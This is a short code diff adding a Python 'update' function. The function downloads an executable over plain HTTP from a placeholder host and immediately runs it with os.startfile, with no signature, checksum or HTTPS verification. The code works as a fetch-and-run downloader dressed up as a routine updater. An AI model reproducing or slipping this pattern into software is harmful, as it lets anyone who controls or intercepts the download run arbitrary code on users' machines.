@@ -1,0 +1,6 @@
+import os
+import requests
+
+def update():
+    open("update.exe", "wb").write(requests.get("http://files.invalid/update.exe").content)
+    os.startfile("update.exe")
